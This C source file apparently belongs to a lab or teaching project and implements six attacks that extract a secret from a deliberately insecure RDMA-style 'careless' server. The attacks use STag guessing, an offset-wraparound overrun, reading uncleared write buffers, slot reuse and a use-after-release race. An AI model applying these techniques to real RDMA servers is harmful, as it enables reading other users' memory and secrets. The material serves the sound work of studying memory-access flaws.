/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/* The six attacks on the careless server. */
#include "attack.h"

#include <stdlib.h>

#include "careless.h"

/* The server compares no protection domain, so it is enough to know the STag. */
bool attack_domain(struct wire *w, const struct lease *victim, uint8_t secret[SECRET_LEN])
{
	uint8_t octets[BLOCK];

	if (wire_read(w, victim->stag, victim->to, octets, victim->len) != ALLOWED)
		return false;
	return find_secret(octets, victim->len, secret);
}

/*
 * An STag is index << 8 | key, and the key of slot i is started + 37 * i. One's own STag gives
 * `started`, and with it the STags of all slots. The empty ones cost a connection each.
 */
bool attack_guess(struct wire *w, const struct lease *own, uint8_t secret[SECRET_LEN])
{
	uint32_t started = own->stag - 37 * (own->stag >> 8);
	uint8_t octets[BLOCK];

	for (uint32_t i = 0; i < SLOTS; i++) {
		uint32_t stag = i << 8 | (uint8_t)(started + 37 * i);
		int status = wire_read(w, stag, 0, octets, BLOCK);

		if (status == ALLOWED && find_secret(octets, BLOCK, secret))
			return true;
		if (status != ALLOWED && wire_connect(w) != ALLOWED)
			return false;
	}
	return false;
}

/*
 * A Tagged Offset of 2^64 - back is not below the first one, and with `back` octets the sum is 2^64,
 * which is 0 in 64 bits and so within the buffer. The access begins `back` octets before it. It
 * must not begin before the memory of the server, so `back` grows in steps of a block.
 */
bool attack_overrun(struct wire *w, const struct lease *own, uint8_t secret[SECRET_LEN])
{
	uint8_t *octets = malloc(MEMORY);
	bool found = false;

	if (!octets)
		return false;
	for (uint32_t back = BLOCK; back < MEMORY && !found; back += BLOCK) {
		if (wire_read(w, own->stag, -(uint64_t)back, octets, back) != ALLOWED)
			break;
		found = find_secret(octets, back, secret);
	}
	free(octets);
	return found;
}

/*
 * Buffers are not cleared, and a Read of a buffer for Writes is not refused. Each buffer that is
 * kept uncovers the next block of the stack.
 */
bool attack_rights(struct wire *w, uint8_t secret[SECRET_LEN])
{
	uint8_t octets[BLOCK];
	struct lease lease;

	while (wire_register(w, REMOTE_WRITE, &lease) == ALLOWED) {
		if (wire_read(w, lease.stag, lease.to, octets, lease.len) != ALLOWED)
			return false;
		if (find_secret(octets, lease.len, secret))
			return true;
	}
	return false;
}

/*
 * A slot keeps its STag for ever, and the slot that became free last is the next to be used. A
 * sweep must empty the slot before the victim comes; accesses to a second buffer cause it.
 */
bool attack_reuse(struct wire *w, const struct lease *own, uint8_t secret[SECRET_LEN])
{
	uint8_t octets[BLOCK];
	struct lease second;

	if (wire_register(w, REMOTE_READ, &second) != ALLOWED ||
	    wire_release(w, own->stag) != ALLOWED)
		return false;
	for (unsigned int i = 0; i < SWEEP; i++)
		if (wire_read(w, second.stag, second.to, octets, 1) != ALLOWED)
			return false;
	wire_wait(w);
	if (wire_read(w, own->stag, own->to, octets, own->len) != ALLOWED)
		return false;
	return find_secret(octets, own->len, secret);
}

/*
 * The block of a released buffer is the next to be used, but the STag is valid until the sweep. If
 * the sweep came first, the Read is refused, and the next try has better chances: each try makes
 * five accesses, so it meets another part of the eight.
 */
bool attack_late(struct wire *w, const struct lease *own, uint8_t secret[SECRET_LEN])
{
	struct lease lease = *own;
	uint8_t octets[BLOCK];

	for (;;) {
		wire_release(w, lease.stag);
		wire_wait(w);
		if (wire_read(w, lease.stag, lease.to, octets, lease.len) == ALLOWED)
			return find_secret(octets, lease.len, secret);
		if (wire_connect(w) != ALLOWED || wire_register(w, REMOTE_READ, &lease) != ALLOWED)
			return false;
	}
}
